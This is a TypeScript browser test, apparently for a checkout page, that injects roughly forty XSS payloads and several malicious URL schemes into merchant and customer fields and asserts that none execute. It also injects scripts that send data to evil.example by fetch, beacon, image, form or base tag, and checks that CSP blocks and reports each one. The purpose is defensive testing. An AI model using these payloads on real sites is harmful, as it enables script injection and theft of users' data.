// Whatever a merchant's data or a stranger puts into the page: none of it runs, and what tried is reported.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { fullAsks, startPageServer, viewOf } from './checkout-support.ts';
import { chromiumIsMissing, launchChromium } from './chromium.ts';

const run = 'globalThis.ran=1';
const texts: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `<!--<script>${run}</script>-->`,
  `--><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `" autofocus onfocus="${run}`,
  `' autofocus onfocus='${run}`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src="javascript:parent.ran=1">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>`,
  `<button formaction="javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${run}</script>`,
  `<script type=importmap>{"imports":{}}</script>`,
  `\u2028${run}\u2029`,
  `\\u003cscript>${run}\\u003c/script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
];
const urls: readonly string[] = [
  `javascript:${run}`,
  ` javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\nscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `https://x.example/"onmouseover="${run}`,
  `https://x.example/'><script>${run}</script>`,
  `//evil.example/`,
  `blob:https://x.example/1`,
];

describe('the page of a checkout', { skip: await chromiumIsMissing() }, async () => {
  const server = await startPageServer();
  const browser = await launchChromium();
  const { page } = await browser.newPage({});
  // What was blocked was asked for all the same; what counts is whether anybody answered.
  const answered: string[] = [];
  page.on('response', (response) => answered.push(response.url()));
  const hasRun = () => page.evaluate('globalThis.ran === 1');

  test(`runs nothing of ${texts.length + urls.length} texts and addresses that want to`, async () => {
    assert.ok(texts.length + urls.length >= 50);
    for (const text of texts) {
      const { lines, known } = viewOf('any');
      const { url } = server.open({
        merchant: { name: text, supportEmail: text, supportUrl: text },
        lines: [{ ...lines[0]!, name: text, description: text }],
        asks: {
          ...fullAsks,
          customFields: [{ ...fullAsks.customFields[0]!, label: text, value: text }],
        },
        known: { ...known, email: text, name: text },
        texts: {
          submit: text,
          afterSubmit: text,
          shippingAddress: text,
          terms: text,
          confirmation: text,
        },
      });
      await page.goto(url);
      assert.equal(await hasRun(), false, text);
    }
    for (const link of urls) {
      for (const status of ['open', 'expired', 'complete', 'locked'] as const) {
        const view = viewOf('any');
        const { url } = server.open({
          status,
          merchant: { ...view.merchant, supportUrl: link },
          urls: { ...view.urls, success: link, cancel: link, recover: link },
        });
        await page.goto(url);
        const hrefs = (await page.evaluate(
          '[...document.querySelectorAll("a")].map((a) => a.protocol)',
        )) as readonly string[];
        assert.deepEqual(
          hrefs.filter((protocol) => !/^(https?|mailto):$/.test(protocol)),
          [],
          link,
        );
        assert.equal(await hasRun(), false, link);
      }
    }
    assert.deepEqual(
      answered.filter((url) => /evil|x\.example/.test(url)),
      [],
    );
  });

  test('blocks what gets into the page in spite of it, and hears of each', async () => {
    const wanted: readonly (readonly [name: string, how: string])[] = [
      [
        'an element',
        `const s=document.createElement('script');s.text='${run}';document.head.append(s)`,
      ],
      [
        'a source',
        `const s=document.createElement('script');s.src='https://evil.example/x.js';document.head.append(s)`,
      ],
      ['a handler', `document.body.setAttribute('onclick','${run}');document.body.click()`],
      ['markup', `document.body.innerHTML='<img src=x onerror=${run}>'`],
      ['eval', `eval('${run}')`],
      ['a function', `new Function('${run}')()`],
      ['a timer', `setTimeout('${run}',0)`],
      [
        'a frame',
        `const f=document.createElement('iframe');f.src='https://evil.example/';document.body.append(f)`,
      ],
      ['an image', `new Image().src='https://evil.example/?'+document.title`],
      ['a request', `fetch('https://evil.example/').catch(()=>{})`],
      ['a beacon', `navigator.sendBeacon('https://evil.example/','x')`],
      [
        'a form',
        `const f=document.createElement('form');f.action='https://evil.example/';document.body.append(f);f.submit()`,
      ],
      [
        'a base',
        `const b=document.createElement('base');b.href='https://evil.example/';document.head.append(b)`,
      ],
    ];
    for (const [name, how] of wanted) {
      await page.goto(server.open().url);
      const before = server.reports.length;
      // Later, because what a debugger evaluates may do more than a page.
      await page.evaluate(`setTimeout(() => { ${how} }, 0)`);
      for (let wait = 0; wait < 200 && server.reports.length === before; wait += 1)
        await page.waitForTimeout(50);
      assert.ok(server.reports.length > before, `${name} was reported`);
      assert.equal(await hasRun(), false, name);
    }
    assert.deepEqual(
      answered.filter((url) => url.includes('evil')),
      [],
    );
  });

  test('charges what the server knows, whatever a browser makes of the form', async () => {
    const { url, session } = server.open();
    await page.goto(url);
    await page.evaluate(`document.querySelector('[name=expected_amount]').value = '1'`);
    await page.getByLabel('Email').fill('jenny@example.com');
    await page.getByLabel('Card number').fill('4242424242424242');
    await page.getByLabel('Expiry').fill('12 / 34');
    await page.getByLabel('Security code').fill('123');
    await page.getByLabel('Name on card').fill('Jenny Rosen');
    await page.getByRole('button', { name: /^Pay/ }).click();
    await page.getByRole('heading', { name: 'Payment successful' }).waitFor();
    // The page sends what it was made to say, and it is for the server to refuse it: no field names a price.
    const names = [...(session.posted[0]?.keys() ?? [])];
    assert.deepEqual(
      names.filter((name) => /amount|price|currency/.test(name)),
      ['expected_amount'],
    );
  });
});
